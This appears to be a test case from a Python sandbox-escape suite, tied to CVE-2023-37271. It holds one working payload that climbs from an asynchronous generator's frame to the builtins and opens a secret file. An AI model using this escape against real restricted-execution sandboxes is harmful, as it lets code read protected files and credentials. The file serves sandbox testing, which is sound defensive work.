"""Climb from an asynchronous generator's frame.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2023-37271
"""


async def values():
    yield 1


print(values().ag_frame.f_builtins["open"](SECRET_FILE).read())
